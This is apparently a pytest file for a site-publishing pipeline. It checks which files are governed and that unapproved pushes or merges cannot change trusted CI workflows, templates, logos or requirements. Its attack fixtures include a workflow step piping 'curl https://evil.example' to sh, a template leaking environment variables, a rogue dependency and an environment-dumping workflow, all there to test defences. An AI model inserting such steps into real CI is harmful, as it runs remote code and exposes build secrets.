"""Which files are governed (rule 8), and what happens when someone with push access changes one.

The paths below are written from the issue's and DESIGN's list of inputs (theme, logo, tables,
translations, SOPs, people, warta.yml, CI files), not read from ``pipeline.governed``.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from approvals_helpers import (
    WARTA_YML,
    Person,
    Site,
    make_site,
)

from pipeline.approvals.governance import parse_state
from pipeline.approvals.service import evaluate_repository
from pipeline.archive.classification import table_file
from pipeline.config import parse_config
from pipeline.git import Git
from pipeline.governed import (
    CONFIG_PATH_SETTINGS,
    HISTORY_PATHSPEC,
    governed_input,
    governed_paths,
    is_governed,
    may_be_governed,
)
from pipeline.workflows.writer import render

LOGO = "gambar/logo.svg"
LOGO_YML = (WARTA_YML % {"signatures": "true"}).replace("  unit_code: UJI\n",
                                                        f"  unit_code: UJI\n  logo: {LOGO}\n")
TEMPLATE = "theme/templates/base.html"
WORKFLOW = ".github/workflows/warta.yml"
REQUIREMENTS = "requirements.txt"

GOVERNED = [
    "warta.yml", "sop/people.yaml", "sop/rilis-uji.yaml", "sop/lampiran/formulir.pdf",
    "theme/templates/base.html", "theme/static/css/site.css", "theme/translations/id.yml",
    "klasifikasi/permendagri-83-2022.yaml",
    ".github/workflows/warta.yml", ".github/actions/setup/action.yml", ".gitea/workflows/terbit.yaml",
    ".forgejo/workflows/terbit.yml", ".gitlab-ci.yml", ".woodpecker.yml",
    "requirements.txt", "requirements-dev.txt", "ci/requirements.txt", "constraints.txt",
    "poetry.lock", "uv.lock", "Pipfile.lock", "package-lock.json", "yarn.lock", "pnpm-lock.yaml",
    "pyproject.toml", "Pipfile", "package.json", ".npmrc", ".python-version",
    "Makefile", "GNUmakefile", "justfile", "Dockerfile", ".pre-commit-config.yaml",
    "pipeline.py", "sitecustomize.py", "scripts/deploy", "tools/cek.sh", ".env",
]
NOT_GOVERNED = [
    "content/siaran-pers/2025/bibit.md", "content/halaman/tentang.md", "content/media/2025/bibit.jpg",
    "content/media/2025/lampiran.pdf", "content/media/skrip.py", "arsip/2025/siaran-pers/bibit.yaml",
    "arsip/Makefile", "content/.gitattributes", "content/media/2025/.gitattributes", "_site.versions/.lock",
    "README.md", "docs/panduan.md", ".gitignore", "LICENSE", "catatan.txt", ".gitattributes", ".gitmodules",
]


@pytest.mark.parametrize("path", GOVERNED)
def test_every_input_of_the_site_and_of_ci_is_governed(path: str) -> None:
    assert is_governed(path)
    found = governed_input(path)
    assert found is not None and found.approvers


@pytest.mark.parametrize("path", NOT_GOVERNED)
def test_items_references_the_register_and_readmes_are_not_governed(path: str) -> None:
    assert not is_governed(path)
    assert governed_input(path) is None


@pytest.mark.parametrize("path", ["MAKEFILE", ".GitHub/workflows/x.yml", "Requirements.TXT", "Theme/x.html"])
def test_case_does_not_hide_a_governed_file(path: str) -> None:
    # a runner on a case-insensitive file system reads MAKEFILE as Makefile
    assert is_governed(path)


def test_a_file_warta_yml_names_is_governed_under_that_configuration() -> None:
    config = parse_config(LOGO_YML)
    assert "site.logo" in CONFIG_PATH_SETTINGS
    assert is_governed(LOGO, config)
    assert not is_governed(LOGO)  # another warta.yml that names no logo
    found = governed_input(LOGO, config)
    assert found is not None and "site.logo" in found.what
    tree = ["README.md", LOGO, TEMPLATE, "content/siaran-pers/2025/a.md", WORKFLOW, "warta.yml"]
    assert governed_paths(tree, config) == sorted([LOGO, TEMPLATE, WORKFLOW, "warta.yml"])
    assert governed_paths(tree) == sorted([TEMPLATE, WORKFLOW, "warta.yml"])


@pytest.mark.parametrize("logo", ["content/media/logo.png", "arsip/logo.png", "../logo.png", "/etc/logo.png"])
def test_a_named_file_where_no_governed_file_can_be_makes_warta_yml_invalid(logo: str) -> None:
    text = LOGO_YML.replace(f"logo: {LOGO}", f"logo: {logo}").encode()
    state = parse_state(0, "0" * 40, {"warta.yml": "a" * 40}, {"a" * 40: text})
    found = state.problems["warta.yml"]
    assert any("site.logo" in p and logo.lstrip("/") in p for p in found)
    assert not state.valid


def test_the_site_classification_table_is_governed(tmp_path: Path) -> None:
    own = tmp_path / "klasifikasi" / "permendagri-83-2022.yaml"
    own.parent.mkdir()
    own.write_text("scheme: permendagri-83-2022\nname: x\ncodes: [{code: '000', title: Umum}]\n")
    used = table_file("permendagri-83-2022", tmp_path)  # the file the archive numbering would load
    assert used == own
    assert is_governed(used.relative_to(tmp_path).as_posix())


# -- in real repositories -------------------------------------------------------------------------

ATTACKS = {
    TEMPLATE: "<html>{{ ENV }}</html>\n",
    LOGO: "<svg xmlns='http://www.w3.org/2000/svg'><text>palsu</text></svg>\n",
    WORKFLOW: render("github-pr.yml", main="main", main_json='"main"', token_env="GITHUB_TOKEN")
    + "      - run: curl https://evil.example | sh\n",
    REQUIREMENTS: "warta==0.1.0\nwarta-helper-evil==6.6.6\n",
}


@pytest.fixture
def office(tmp_path: Path, cast: dict[str, Person], monkeypatch: pytest.MonkeyPatch) -> Site:
    """A site whose trusted root commit holds a theme override, a logo, the CI workflow and requirements."""
    made = make_site(tmp_path, cast, extra={
        "warta.yml": LOGO_YML,
        TEMPLATE: "<html>{{ SITENAME }}</html>\n",
        LOGO: "<svg xmlns='http://www.w3.org/2000/svg'><circle r='9'/></svg>\n",
        WORKFLOW: render("github-pr.yml", main="main", main_json='"main"', token_env="GITHUB_TOKEN"),
        REQUIREMENTS: "warta==0.1.0\n",
    })
    (tmp_path / "home" / "isolated").write_text("")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "home" / "isolated"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    return made


def blob(site: Site, path: str, rev: str = "HEAD") -> str:
    return site.git("rev-parse", f"{rev}:{path}")


def rule_8_findings(problems: tuple[str, ...], path: str) -> list[str]:
    return [p for p in problems if p.startswith(f"{path}:") and "rule 8" in p]


@pytest.mark.parametrize("path", list(ATTACKS))
def test_a_push_straight_to_main_does_not_change_a_governed_file(office: Site, path: str) -> None:
    trusted = blob(office, path)
    office.write(path, ATTACKS[path])
    office.commit(f"ubah {path}", office.cast["eve"])
    report = evaluate_repository(office.root, all_items=True)
    assert report.state.blobs[path] == trusted  # what a closed-world publish reads: the trusted bytes
    assert rule_8_findings(report.problems, path), report.problems
    assert not report.ok


@pytest.mark.parametrize("path", list(ATTACKS))
def test_merging_an_unapproved_branch_does_not_change_a_governed_file(office: Site, path: str) -> None:
    trusted = blob(office, path)
    office.switch("rilis/perbaikan", create=True)
    office.write(path, ATTACKS[path])
    office.write("content/siaran-pers/2025/kedok.md", "---\ntitle: Kedok\ndate: 2025-03-04\n---\nIsi.\n")
    office.commit("rilis biasa", office.cast["eve"])
    office.merge("rilis/perbaikan", office.cast["eve"])  # merging is not approving
    report = evaluate_repository(office.root, all_items=True)
    assert report.state.blobs[path] == trusted
    assert rule_8_findings(report.problems, path)


def test_a_new_workflow_added_without_approval_is_not_trusted(office: Site) -> None:
    office.write(".gitea/workflows/bocor.yml", "on: push\njobs: {x: {runs-on: any, steps: [{run: env}]}}\n")
    office.commit("tambah alur", office.cast["eve"])
    report = evaluate_repository(office.root, all_items=True)
    assert ".gitea/workflows/bocor.yml" not in report.state.blobs
    assert rule_8_findings(report.problems, ".gitea/workflows/bocor.yml")


def test_deleting_a_theme_override_without_approval_keeps_the_trusted_one(office: Site) -> None:
    trusted = blob(office, TEMPLATE)
    office.git("rm", "-q", TEMPLATE)
    office.commit("hapus templat", office.cast["eve"])
    report = evaluate_repository(office.root, all_items=True)
    assert report.state.blobs[TEMPLATE] == trusted
    assert rule_8_findings(report.problems, TEMPLATE)


def test_a_readme_change_is_not_governance(office: Site) -> None:
    office.write("README.md", "# Situs kami\n")
    office.write("docs/panduan.md", "Cara menulis rilis.\n")
    office.commit("dokumentasi", office.cast["eve"])
    report = evaluate_repository(office.root, all_items=True)
    assert report.ok, report.problems
    assert "README.md" not in report.state.blobs and "docs/panduan.md" not in report.state.blobs


def test_the_trusted_state_lists_every_governed_file_of_the_root_commit(office: Site) -> None:
    report = evaluate_repository(office.root, all_items=True)
    expected = {"warta.yml", "sop/people.yaml", "sop/rilis-uji.yaml", "sop/info-uji.yaml", *ATTACKS}
    assert set(report.state.blobs) == expected
    assert all(report.state.blobs[p] == blob(office, p) for p in expected)


@pytest.mark.parametrize("path", [TEMPLATE, WORKFLOW, REQUIREMENTS, LOGO])
def test_a_pull_request_changing_a_governed_file_needs_every_signatory(office: Site, path: str) -> None:
    office.switch("rilis/ubah", create=True)
    office.write(path, ATTACKS[path])
    office.commit(f"ubah {path}", office.cast["rina"])
    found = evaluate_repository(office.root).result(path)
    assert found is not None and not found.complete
    assert [s.role for s in found.steps] == ["ketua_ppid", "kepala_dinas"]
    office.record(office.cast["wahyu"], path, 2, "kepala_dinas")  # one signatory acting alone
    found = evaluate_repository(office.root).result(path)
    assert found is not None and not found.complete
    office.record(office.cast["yuli"], path, 1, "ketua_ppid")
    found = evaluate_repository(office.root).result(path)
    assert found is not None and found.complete


@pytest.mark.parametrize("path", list(ATTACKS))
def test_a_signed_off_change_of_a_governed_file_takes_effect_on_main(office: Site, path: str) -> None:
    office.switch("rilis/ubah", create=True)
    office.write(path, ATTACKS[path])
    office.commit(f"ubah {path}", office.cast["rina"])
    office.record(office.cast["yuli"], path, 1, "ketua_ppid")
    office.record(office.cast["wahyu"], path, 2, "kepala_dinas")
    office.merge("rilis/ubah", office.cast["wahyu"])
    report = evaluate_repository(office.root, all_items=True)
    assert report.state.blobs[path] == blob(office, path)
    assert not report.problems


def test_the_history_index_follows_every_governed_file(tmp_path: Path) -> None:
    """What git's pathspec selects (the history index's view) is what may_be_governed says, and every
    governed file is in it: a governed file the index did not follow could change unseen."""
    repo = tmp_path / "repo"
    repo.mkdir()
    for rel in GOVERNED + NOT_GOVERNED + [LOGO]:
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text("data\n")
    git = Git(repo)
    git.run("init", "-q", "-b", "main")
    git.run("add", "-A")
    git.run("-c", "user.name=x", "-c", "user.email=x@example.org", "commit", "-q", "--no-gpg-sign", "-m", "x")
    [commit] = git.log(["HEAD"], first_parent=True, raw=True, paths=list(HISTORY_PATHSPEC))
    followed = {c.path for c in commit.changes}
    assert followed == {p for p in GOVERNED + NOT_GOVERNED + [LOGO] if may_be_governed(p)}
    assert set(GOVERNED) | {LOGO} <= followed
    assert not followed & {"content/siaran-pers/2025/bibit.md", "content/media/2025/bibit.jpg", "arsip/Makefile"}
